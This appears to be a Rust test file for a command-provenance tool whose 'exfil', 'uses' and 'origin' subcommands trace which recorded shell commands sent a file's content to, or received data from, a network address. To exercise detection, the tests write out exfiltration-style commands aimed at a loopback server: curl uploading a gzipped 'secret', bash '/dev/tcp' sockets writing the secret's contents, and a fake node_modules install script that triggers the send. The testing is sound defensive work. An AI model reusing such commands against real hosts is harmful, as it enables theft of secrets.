//! Addresses in answers at the level of steps: peers, `exfil`.

use crate::Place;
use crate::hunt::LoopbackServer;

/// A server on the loopback that answers each connection with a fixed text. Returns its address.
fn server() -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for peer in listener.incoming() {
            let mut peer = peer.unwrap();
            let _ = peer.read(&mut [0; 4096]);
            let answer = "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nb\na\n";
            let _ = peer.write_all(answer.as_bytes());
        }
    });
    address
}

#[test]
fn of_names_the_peer_that_content_came_from() {
    if !backstory_testkit::need::needs("a client", &["curl"]) {
        return;
    }
    let place = Place::new();
    let address = server();
    place.record(&format!(
        "curl -s http://{address}/ > data; sort data > sorted"
    ));
    let answer = place.run(&["of", "sorted"]).out;
    for part in [
        "  sort data > sorted\n",
        &format!("  curl -s http://{address}/ > data\n      received from tcp:{address}\n"),
    ] {
        assert!(answer.contains(part), "{part}: {answer}");
    }
    let inputs = place.run(&["of", "sorted", "--inputs"]).out;
    assert!(inputs.starts_with(&format!("tcp:{address}\n")), "{inputs}");
    let way = place.run(&["of", "sorted", "--why", &format!("tcp:{address}")]);
    assert!(way.out.contains("curl -s"), "{}", way.out);
    for subject in ["127.0.0.1", "localhost", &format!("tcp:{address}")] {
        let touched = place.run(&["touched", subject]).out;
        assert!(
            touched.contains("curl -s") && !touched.contains("sort"),
            "{touched}"
        );
    }
    place
        .run(&["who", "tcp:127.0.0.1:1"])
        .is_error(1, &["exchanged data with tcp:127.0.0.1:1"]);
    for host in ["192.0.2.9", "192.0.2.9:80", "localhost:1"] {
        let words = format!("no recorded process exchanged data with {host};");
        place.run(&["touched", host]).is_error(1, &[&words]);
    }
    let origin = place.run(&["origin", "sorted"]).out;
    for part in [
        "content came from 1 address\n",
        &format!("tcp:{address}  "),
        "  made by sort data > sorted\n",
        "received 61 B\n",
    ] {
        assert!(origin.contains(part), "{part}: {origin}");
    }
    let ends = place.json(&["origin", "sorted", "--json"]);
    assert_eq!(ends[0]["address"], format!("tcp:{address}"));
    assert_eq!(ends[0]["way"].as_array().unwrap().len(), 2, "{ends}");
}

#[test]
fn uses_names_the_peer_that_content_went_to() {
    if !backstory_testkit::need::needs("a client", &["curl"]) {
        return;
    }
    let place = Place::new();
    let address = server();
    place.write("secret", "s\n");
    place.record(&format!(
        "gzip -c secret > packed; curl -s --data-binary @packed http://{address}/ > reply"
    ));
    let answer = place.run(&["uses", "secret"]).out;
    assert!(
        answer.contains(&format!("sent to tcp:{address}")),
        "{answer}"
    );
    let way = place.run(&["uses", "secret", "--why", &format!("tcp:{address}")]);
    assert!(way.out.contains("gzip -c secret"), "{}", way.out);
    let sent = place.run(&["exfil", "secret"]).out;
    for part in [
        "commands with its content sent to 1 address\n",
        "  used by gzip -c secret > packed\n",
        &format!("  which sent to tcp:{address}\n"),
    ] {
        assert!(sent.contains(part), "{part}: {sent}");
    }
    // The reply came from the network, and went nowhere.
    let reply = place.run(&["exfil", "reply"]);
    assert_eq!(
        (reply.status, reply.out.lines().count()),
        (1, 1),
        "{}",
        reply.out
    );
}

#[test]
fn exfil_has_the_time_of_the_connection() {
    let Some((place, server)) = LoopbackServer::at_place(1, "") else {
        return;
    };
    place.write("secret", "s\n");
    // The shell reads the file in a later second than it began.
    let wait = "printf -v a '%(%s)T'; b=$a; while [ $b = $a ]; do printf -v b '%(%s)T'; done";
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{}", server.port);
    let send = format!("{wait}\n{connect}\nread x < secret; echo $x >&3\n");
    place.write("send.sh", &send);
    place.record("bash send.sh");
    server.end();
    let ends = place.json(&["exfil", "secret", "--json"]);
    let second = |name: &str| ends[0][name].as_f64().unwrap().floor();
    assert!(second("start") < second("time"), "{ends}");
    assert!(second("time") <= second("end"), "{ends}");
    let text = place.run(&["exfil", "secret"]).out;
    let shown = format!(":{:02}, run ", second("time") as i64 % 60);
    assert!(text.contains(&shown), "{text} {ends}");
}

/// Commands that run at the same time can use the same address.
#[test]
fn exfil_names_no_program_of_another_command() {
    if !backstory_testkit::need::needs("clients", &["bash", "perl"]) {
        return;
    }
    let place = Place::new();
    let server = LoopbackServer::new(2, "");
    place.write("secret", "s\n");
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{}", server.port);
    place.write(
        "send.sh",
        &format!("{connect}\nread x < secret; echo $x >&3\n"),
    );
    place.write("other.sh", &format!("{connect}\necho other >&3\n"));
    std::fs::create_dir(place.path("node_modules")).unwrap();
    place.write(
        "node_modules/install.pl",
        "system('bash', 'send.sh'); open(F, '>', 'sent'); close(F);\n\
         for (1..12000) { last if -e 'done'; select(undef, undef, undef, 0.01); }\n",
    );
    // The other command uses the address later, and while the first one is executed.
    place.record(
        "perl node_modules/install.pl & i=0; until [ -e sent ]; do i=$((i+1)); \
         [ $i -lt 12000 ] || exit 9; sleep 0.01; done; bash other.sh; : > done; wait",
    );
    server.end();
    let sent = place.run(&["exfil", "secret"]).out;
    let own = ", sent 2 B, received 0 B, by bash send.sh\n";
    assert!(sent.contains(own), "{sent}");
    assert!(!sent.contains("other.sh"), "{sent}");
}
